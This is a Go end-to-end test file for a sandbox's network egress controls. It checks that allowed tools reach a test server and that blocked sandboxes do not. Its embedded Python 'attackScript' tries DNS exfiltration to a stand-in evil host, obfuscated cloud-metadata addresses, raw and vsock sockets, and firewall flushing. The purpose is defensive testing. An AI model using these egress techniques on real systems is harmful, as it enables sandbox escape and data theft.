package e2e

import (
	"archive/tar"
	"bytes"
	"cmp"
	"compress/gzip"
	"context"
	"crypto/rand"
	"errors"
	"fmt"
	"io/fs"
	"net"
	"os"
	"os/exec"
	"os/user"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/covehq/cove/internal/ordinary"
	"github.com/covehq/cove/internal/outer"
)

// reachable are the runtimes whose way out is tested; COVE_RUNTIME chooses others.
func reachable() []string {
	if chosen := os.Getenv("COVE_RUNTIME"); chosen != "" {
		return strings.Split(chosen, ",")
	}
	return everywhere
}

// TestReachAsAnOrdinaryUser does what TestReach does, on gVisor, for a user without
// privileges on the world's machine.
func TestReachAsAnOrdinaryUser(t *testing.T) {
	binaries(t)
	i := newInternet(t)
	i.servePostgres(t)
	fetch := goProgram(t)
	oneByOne(t, []string{"gvisor"}, func(t *testing.T, runtime string) {
		m := onMachine(t, i, runtime, "")
		m.becomeOrdinary(t)
		reach(t, m, fetch)
	})
}

// becomeOrdinary has all that follows be done by a user without privileges, who has
// programs of their own.
func (m *machine) becomeOrdinary(t *testing.T) {
	t.Helper()
	base := filepath.Dir(m.dirs.State)
	programs := filepath.Join(base, "bin")
	if err := os.Mkdir(programs, 0o755); err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"cove", "cove-agent", "cove-runsc"} {
		if output, err := exec.CommandContext(t.Context(), "cp", filepath.Join(bin, name), programs).CombinedOutput(); err != nil {
			t.Fatalf("cp: %v: %s", err, output)
		}
	}
	err := filepath.WalkDir(base, func(path string, _ fs.DirEntry, err error) error {
		return errors.Join(err, os.Lchown(path, ordinary.ID, ordinary.ID))
	})
	if err != nil {
		t.Fatal(err)
	}
	id := strconv.Itoa(ordinary.ID)
	m.enter = append(m.enter, "setpriv", "--reuid="+id, "--regid="+id, "--clear-groups", "--no-new-privs", "--")
	m.programs = programs
	m.env = append(m.env, "PATH="+programs+":"+os.Getenv("PATH"))
	m.args = []string{"--best-effort"} // nobody delegates a cgroup here
}

// machine is a Cove whose daemon runs on the machine of an outer world.
type machine struct {
	*world
	*internet
	runtime string
	args    []string // of each create
}

// onMachine makes a machine whose sandboxes run on a runtime.
func onMachine(t *testing.T, i *internet, runtime string, settings string) *machine {
	t.Helper()
	w := newWorld(t, runtime)
	config := filepath.Join(filepath.Dir(w.dirs.State), "cove.yaml")
	if err := os.WriteFile(config, []byte("resolver: "+resolver+"\n"+settings), 0o600); err != nil {
		t.Fatal(err)
	}
	w.enter = i.Enter()
	authority := filepath.Join(filepath.Dir(w.dirs.State), "outer.pem")
	if err := os.WriteFile(authority, i.authority.pem, 0o600); err != nil {
		t.Fatal(err)
	}
	w.env = append(w.env, "SSL_CERT_FILE="+authority) // for what the daemon itself connects to
	return &machine{world: w, internet: i, runtime: runtime}
}

// create makes a sandbox whose programs trust the world's authority, and removes it at the
// test's end.
func (m *machine) create(t *testing.T, args ...string) string {
	t.Helper()
	const bundle = "/workspace/outer.pem"
	trust := []string{"create"}
	for _, variable := range []string{"SSL_CERT_FILE", "PIP_CERT", "NODE_EXTRA_CA_CERTS", "GIT_SSL_CAINFO", "CURL_CA_BUNDLE", "npm_config_cafile"} {
		trust = append(trust, "-e", variable+"="+bundle)
	}
	id := m.output(t, slices.Concat(trust, m.args, args)...)
	t.Cleanup(func() { m.output(t, "rm", id) })
	put := m.command(t, "exec", "-i", id, "--", "sh", "-c", "cat >"+bundle)
	put.Stdin = bytes.NewReader(m.authority.pem)
	if output, err := put.CombinedOutput(); err != nil {
		t.Fatalf("put the authority inside: %v: %s", err, output)
	}
	return id
}

// inside runs a command in a sandbox and returns all that it printed.
func (m *machine) inside(t *testing.T, id string, script string) (string, error) {
	t.Helper()
	output, err := m.command(t, "exec", "--timeout", "60s", id, "--", "sh", "-c", script).CombinedOutput()
	return string(output), err
}

// program is one that reaches out, unmodified.
type program struct {
	name  string
	needs string // of this machine
	allow string // the rule
	run   string // the script; it prints "hello from outside"
}

var programs = []program{
	{"curl", "curl", "api.outer.test", "curl -fsS -m 20 https://api.outer.test/x"},
	{"curl without TLS", "curl", "api.outer.test:80", "curl -fsS -m 20 http://api.outer.test/x"},
	{"wget", "wget", "*.outer.test:443", "wget -q -T 20 -t 1 -O - --ca-certificate=$SSL_CERT_FILE https://api.outer.test/x"},
	{"pip", "pip3", "pypi.outer.test", "pip download -q --no-cache-dir --disable-pip-version-check --retries 0 --timeout 20 --no-deps -d /tmp/p -i https://pypi.outer.test/simple outer-hello && cd /tmp/p && unzip -q -o *.whl 2>/dev/null || python3 -m zipfile -e /tmp/p/*.whl /tmp/p && python3 /tmp/p/outer_hello.py"},
	{"npm", "npm", "npm.outer.test", "mkdir -p /tmp/n && cd /tmp/n && npm install --loglevel error --no-audit --no-fund --fetch-retries=0 --registry https://npm.outer.test/ outer-hello >&2 && node -e \"require('outer-hello')\""},
	{"node's fetch", "node", "api.outer.test", "node -e \"fetch('https://api.outer.test/x').then(r => r.text()).then(console.log, e => { console.error(e); process.exit(1) })\""},
	{"git over HTTPS", "git", "git.outer.test", "rm -rf /tmp/g && GIT_TERMINAL_PROMPT=0 git clone -q https://git.outer.test/hello.git /tmp/g && cat /tmp/g/hello.txt"},
	{"OpenSSL's client", "openssl", "api.outer.test:443", "printf 'GET /x HTTP/1.0\\r\\nHost: api.outer.test\\r\\n\\r\\n' | timeout 20 openssl s_client -quiet -verify_return_error -CAfile $SSL_CERT_FILE -servername api.outer.test -connect api.outer.test:443"},
	{"a Go program", "go", "api.outer.test", "/workspace/fetch https://api.outer.test/x"},
	{"psql", "psql", "db.outer.test:5432", "PGCONNECT_TIMEOUT=20 psql -At 'host=db.outer.test port=5432 user=outer dbname=postgres sslmode=disable' -c \"select 'hello from outside'\""},
}

// TestReach has programs reach servers of the outer world by name, each where a rule allows
// it and each where none does. The world sees nothing of the latter.
func TestReach(t *testing.T) {
	binaries(t)
	i := newInternet(t)
	i.servePostgres(t)
	fetch := goProgram(t)
	oneByOne(t, reachable(), func(t *testing.T, runtime string) {
		m := onMachine(t, i, runtime, "")
		reach(t, m, fetch)
	})
}

func reach(t *testing.T, m *machine, fetch string) {
	var rules []string
	for _, p := range programs {
		rules = append(rules, "--allow", p.allow)
	}
	allowed, refused := m.create(t, rules...), m.create(t, "--allow", "nothing.outer.test")
	none := m.create(t)
	for _, id := range []string{allowed, refused, none} {
		m.output(t, "cp", fetch, id+":/workspace/fetch")
	}
	for _, p := range programs {
		t.Run(p.name, func(t *testing.T) {
			if _, err := exec.LookPath(p.needs); err != nil {
				if required(p.needs) || required("outer") {
					t.Fatal(err)
				}
				t.Skip(err)
			}
			if output, err := m.inside(t, allowed, p.run); err != nil || !strings.Contains(output, "hello from outside") {
				t.Errorf("allowed: %v: %s", err, output)
			}
			for name, id := range map[string]string{"other rules": refused, "none": none} {
				if output, err := m.inside(t, id, p.run); err == nil || strings.Contains(output, "hello from outside") {
					t.Errorf("with %s: it reached out: %s", name, output)
				}
			}
		})
	}
	for name, id := range map[string]string{"other rules": refused, "none": none} {
		if log := m.output(t, "network", "log", id); !strings.Contains(log, "api.outer.test") {
			t.Errorf("the log of the sandbox with %s has no api.outer.test:\n%s", name, log)
		}
	}
}

// goProgram builds a program that fetches a URL.
func goProgram(t *testing.T) string {
	t.Helper()
	dir, err := os.MkdirTemp("", "cove-fetch-") // not t.TempDir, which is for nobody else
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	if err := os.Chmod(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	source := `package main

import ("io"; "net/http"; "os")

func main() {
	r, err := http.Get(os.Args[1])
	if err != nil { println(err.Error()); os.Exit(1) }
	io.Copy(os.Stdout, r.Body)
}`
	path := filepath.Join(dir, "fetch.go")
	if err := os.WriteFile(path, []byte(source), 0o600); err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(t.Context(), 5*time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, "go", "build", "-o", filepath.Join(dir, "fetch"), path)
	cmd.Env = append(os.Environ(), "CGO_ENABLED=0")
	if output, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("go build: %v: %s", err, output)
	}
	return filepath.Join(dir, "fetch")
}

// servePostgres runs a PostgreSQL in the world that trusts everybody.
func (i *internet) servePostgres(t *testing.T) {
	t.Helper()
	found, _ := filepath.Glob("/usr/lib/postgresql/*/bin/postgres")
	account, err := user.Lookup("postgres")
	if len(found) == 0 || err != nil {
		if required("outer") {
			t.Fatal("PostgreSQL is required, and not installed")
		}
		return
	}
	bin := filepath.Dir(found[len(found)-1])
	uid, _ := strconv.Atoi(account.Uid)
	gid, _ := strconv.Atoi(account.Gid)
	dir, err := os.MkdirTemp("", "cove-pg-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = os.RemoveAll(dir) })
	if err := os.Chown(dir, uid, gid); err != nil {
		t.Fatal(err)
	}
	as := &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: uint32(uid), Gid: uint32(gid)}}
	data := filepath.Join(dir, "data")
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	initdb := exec.CommandContext(ctx, filepath.Join(bin, "initdb"), "-D", data, "-U", "outer", "-A", "trust", "--no-sync")
	initdb.SysProcAttr, initdb.Dir, initdb.WaitDelay = as, dir, time.Second
	if output, err := initdb.CombinedOutput(); err != nil {
		t.Fatalf("initdb: %v: %s", err, output)
	}
	if err := os.WriteFile(filepath.Join(data, "pg_hba.conf"), []byte("host all all 0.0.0.0/0 trust\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	server := exec.CommandContext(context.Background(), filepath.Join(bin, "postgres"), "-D", data, "-k", dir, "-h", "0.0.0.0", "-F")
	server.SysProcAttr = &syscall.SysProcAttr{Credential: as.Credential, Setpgid: true}
	server.Dir, server.WaitDelay = dir, time.Second
	if err := i.In(server.Start); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = server.Process.Signal(syscall.SIGQUIT); _ = server.Wait() })
	eventually(t, 30*time.Second, "PostgreSQL listens", func() bool {
		return i.In(func() error {
			ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
			defer cancel()
			return exec.CommandContext(ctx, filepath.Join(bin, "pg_isready"), "-q", "-h", outer.Address).Run()
		}) == nil
	})
}

// tarOf is a compressed archive of files by name.
func tarOf(t *testing.T, files map[string]string) []byte {
	t.Helper()
	var content bytes.Buffer
	zipped := gzip.NewWriter(&content)
	w := tar.NewWriter(zipped)
	for name, body := range files {
		if err := w.WriteHeader(&tar.Header{Name: name, Typeflag: tar.TypeReg, Mode: 0o644, Size: int64(len(body))}); err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write([]byte(body)); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	if err := zipped.Close(); err != nil {
		t.Fatal(err)
	}
	return content.Bytes()
}

// TestARealPip installs a package from where this machine's own pip does, by the preset of
// that name, and does not without.
func TestARealPip(t *testing.T) {
	eachRuntime(t, func(t *testing.T, runtime string) {
		ctx, cancel := context.WithTimeout(t.Context(), time.Minute)
		defer cancel()
		here := exec.CommandContext(ctx, "python3", "-m", "pip", "download", "-q", "--no-deps", "-d", t.TempDir(), "six")
		here.WaitDelay = time.Second
		if output, err := here.CombinedOutput(); err != nil {
			t.Skipf("this machine's own pip reaches no index: %v: %s", err, output)
		}
		w := newWorld(t, runtime)
		if proxy := cmp.Or(os.Getenv("HTTPS_PROXY"), os.Getenv("https_proxy")); proxy != "" {
			w.env = append(w.env, "COVE_EGRESS_PROXY="+proxy) // as pip has it
		}
		const install = "pip install -q --disable-pip-version-check --retries 0 --no-deps --target /tmp/p six && PYTHONPATH=/tmp/p python3 -c 'import six; print(six.__name__)'"
		if output, err := w.command(t, "run", "--allow", "pip", "--", "sh", "-c", install).CombinedOutput(); strings.Contains(string(output), "a loopback address") {
			t.Skipf("this machine's own pip has an index that no sandbox may reach: %s", output)
		} else if err != nil || !strings.Contains(string(output), "six") {
			t.Errorf("with the preset: %v: %s", err, output)
		}
		output, err := w.command(t, "run", "--", "sh", "-c", install).CombinedOutput()
		if err == nil || !strings.Contains(string(output), "--allow pip") {
			t.Errorf("without: %v: %s", err, output)
		}
	})
}

// TestNothingGetsOut has a hostile program try every way out there is. The oracle is the
// wire: it carries what a rule allows, and nothing else.
func TestNothingGetsOut(t *testing.T) {
	binaries(t)
	oneByOne(t, reachable(), func(t *testing.T, runtime string) {
		for _, c := range []struct {
			name string
			args []string
		}{
			{"T61 T62 T67 T70 with no network", nil},
			{"T62 T63 T64 T66 T67 T70 with one name allowed", []string{"--allow", "api.outer.test:443"}},
			{"T71 for root with one name allowed", []string{"--user", "root", "--allow", "api.outer.test:443"}},
			{"T63 T64 T65 T68 with everything public", []string{"--network", "open", "--deny", "evil.outer.test", "--deny", "*.evil.outer.test"}},
		} {
			if slices.Contains(c.args, "root") && !strings.Contains(runtime, "gvisor") {
				continue // root inside is for runtimes with a kernel of their own
			}
			t.Run(c.name, func(t *testing.T) {
				t.Parallel()
				m := onMachine(t, newInternet(t), runtime, "")
				id := m.create(t, c.args...)
				attacks := m.command(t, "exec", "-i", "--timeout", "120s", id, "--", "python3", "-", abstractSocket(t))
				attacks.Stdin = strings.NewReader(attackScript)
				output, err := attacks.CombinedOutput()
				if err != nil || !strings.Contains(string(output), "all tried") {
					t.Fatalf("the attacks were not all tried: %v: %s", err, output)
				}
				m.checkWire(t, string(output), c.args)
			})
		}
	})
}

// abstractSocket listens on a socket without a file, in the namespace of this process,
// which a sandbox must not share; the test fails when somebody connects. It returns the
// socket's name.
func abstractSocket(t *testing.T) string {
	t.Helper()
	name := fmt.Sprintf("cove-canary-%d-%s", os.Getpid(), rand.Text())
	listener, err := net.Listen("unix", "@"+name)
	if err != nil {
		t.Fatal(err)
	}
	done := make(chan struct{})
	go func() {
		defer close(done)
		for {
			conn, err := listener.Accept()
			if err != nil {
				return
			}
			t.Error("a socket without a file was reached")
			_ = conn.Close()
		}
	}()
	t.Cleanup(func() { _ = listener.Close(); <-done })
	return name
}

// checkWire compares what arrived in the world with what the rules allow.
func (m *machine) checkWire(t *testing.T, output string, rules []string) {
	t.Helper()
	open := slices.Contains(rules, "open")
	for _, packet := range m.Packets() {
		to := packet.To + ":" + strconv.Itoa(packet.Port)
		switch {
		case len(rules) > 0 && packet.Protocol == "udp" && to == resolver:
		case len(rules) > 0 && packet.Protocol == "icmp" && packet.To == outer.Address: // the machine's, on an answer that came too late
		case len(rules) > 0 && packet.Protocol == "tcp" && to == m.addresses["api.outer.test"].String()+":443":
		case open && packet.Protocol == "tcp" && slices.Contains([]string{"8.8.8.8", m.addresses["api.outer.test"].String()}, packet.To):
		default:
			t.Errorf("on the wire: %v\n%s", packet, output)
		}
	}
	for _, name := range m.queries() {
		if name == "evil.outer.test" || strings.HasPrefix(name, "c2vjcmv0") || strings.HasPrefix(name, "0x") || strings.HasPrefix(name, "2852039166") {
			t.Errorf("a query for %s left", name)
		}
		if len(rules) == 0 {
			t.Errorf("with no network a query for %s left", name)
		}
	}
	if strings.Contains(output, "REACHED") {
		t.Errorf("it got an answer that it must not have: %s", output)
	}
	if got, want := strings.Contains(output, "allowed: hello"), len(rules) > 0; got != want {
		t.Errorf("the allowed name answers: %v, want %v: %s", got, want, output)
	}
}

// attackScript tries one way after another, and says what came of each.
var attackScript = fmt.Sprintf(`
import socket, ssl, struct, subprocess, sys, urllib.request
socket.setdefaulttimeout(2)

def attempt(name, f):
    try:
        print(name, "->", f())
    except Exception as e:
        print(name, "->", type(e).__name__, e)

def tcp(host, port, send=b"GET / HTTP/1.0\r\nHost: x\r\n\r\n", family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_STREAM); s.settimeout(2)
    s.connect((host, port)); s.sendall(send)
    data = b""
    try:
        while piece := s.recv(1000): data += piece
    except Exception:
        pass
    if data and not (b"403 Forbidden" in data and b"Cove-Error: forbidden" in data):
        return "REACHED %%r" %% data
    return data

def udp(host, port, data, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(0.3)
    s.sendto(data, (host, port))
    got = s.recv(100)
    return "REACHED %%r" %% got if port != 53 else len(got)

query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x10c2VjcmV0LWRhdGE0\x04evil\x05outer\x04test\x00\x00\x01\x00\x01"
context = ssl._create_unverified_context()

for name in ["evil.outer.test", "c2VjcmV0.evil.outer.test", "rebound.outer.test", "home.outer.test", "metadata.google.internal"]:
    attempt("lookup " + name, lambda: socket.getaddrinfo(name, 80))
    attempt("connect " + name, lambda: tcp(name, 80))
    attempt("connect by TLS " + name, lambda: tcp(name, 443))
for server in ["8.8.8.8", "127.0.0.11", "%[1]s"]:
    attempt("DNS by UDP " + server, lambda: udp(server, 53, query))
    attempt("DNS by TCP " + server, lambda: "an answer" if tcp(server, 53, struct.pack(">H", len(query)) + query) else "none")
for spelling in ["169.254.169.254", "2852039166", "0xA9FEA9FE", "0251.0376.0251.0376", "169.254.43518", "168.63.129.16", "100.100.100.200", "10.1.2.3", "192.168.1.1", "172.16.0.1", "100.64.0.1", "%[2]s", "0.0.0.0", "224.0.0.1", "255.255.255.255", "198.51.100.1"]:
    for port in (80, 443, 8080):
        attempt("connect %%s:%%d" %% (spelling, port), lambda: tcp(spelling, port))
for spelling in ["::ffff:169.254.169.254", "::ffff:a9fe:a9fe", "64:ff9b::a9fe:a9fe", "fd00:ec2::254", "2a0e:1::2", "fe80::1", "2001:4860:4860::8888"]:
    attempt("connect [%%s]" %% spelling, lambda: tcp(spelling, 80, family=socket.AF_INET6))
    attempt("send to [%%s]" %% spelling, lambda: udp(spelling, 5353, b"x", family=socket.AF_INET6))
for host, port in [("8.8.8.8", 123), ("%[1]s", 9), ("255.255.255.255", 67), ("224.0.0.251", 5353), ("169.254.169.254", 80)]:
    attempt("UDP %%s:%%d" %% (host, port), lambda: udp(host, port, b"x" * 48))
for kind, protocol in [(socket.SOCK_RAW, socket.IPPROTO_ICMP), (socket.SOCK_DGRAM, socket.IPPROTO_ICMP), (socket.SOCK_RAW, socket.IPPROTO_RAW), (socket.SOCK_RAW, 255), (socket.SOCK_STREAM, 132)]:
    attempt("socket %%s %%s" %% (kind, protocol), lambda: socket.socket(socket.AF_INET, kind, protocol).sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00", ("8.8.8.8", 0)))
attempt("packet socket", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3).send(b"x" * 64))
attempt("a socket without a file", lambda: socket.socket(socket.AF_UNIX, socket.SOCK_STREAM).connect("\0" + sys.argv[1]) or "REACHED")
attempt("vsock", lambda: socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).connect((2, 1024)))
attempt("SNI of another", lambda: context.wrap_socket(socket.create_connection(("api.outer.test", 443)), server_hostname="api.outer.test").version() and "a connection to the allowed name")
for port in (80, 22, 8443):
    attempt("the allowed name, port %%d" %% port, lambda: tcp("api.outer.test", port) if port != 80 else "not tried")
attempt("a public address", lambda: "an answer" if tcp("8.8.8.8", 443) else "none")
for tool in ["iptables -t nat -F", "ip route add default via 127.0.0.1", "ip link add dummy0 type dummy", "nft flush ruleset"]:
    attempt(tool, lambda: subprocess.run(tool.split(), capture_output=True, timeout=5).returncode)
request = urllib.request.Request("https://api.outer.test/x")
attempt("allowed:", lambda: None)
try:
    with urllib.request.urlopen(request, context=context, timeout=10) as r:
        print("allowed:", "hello" if b"hello from outside" in r.read() else "?")
except Exception as e:
    print("allowed: no:", e)
print("all tried")
`, outer.Address, outer.MachineAddress)
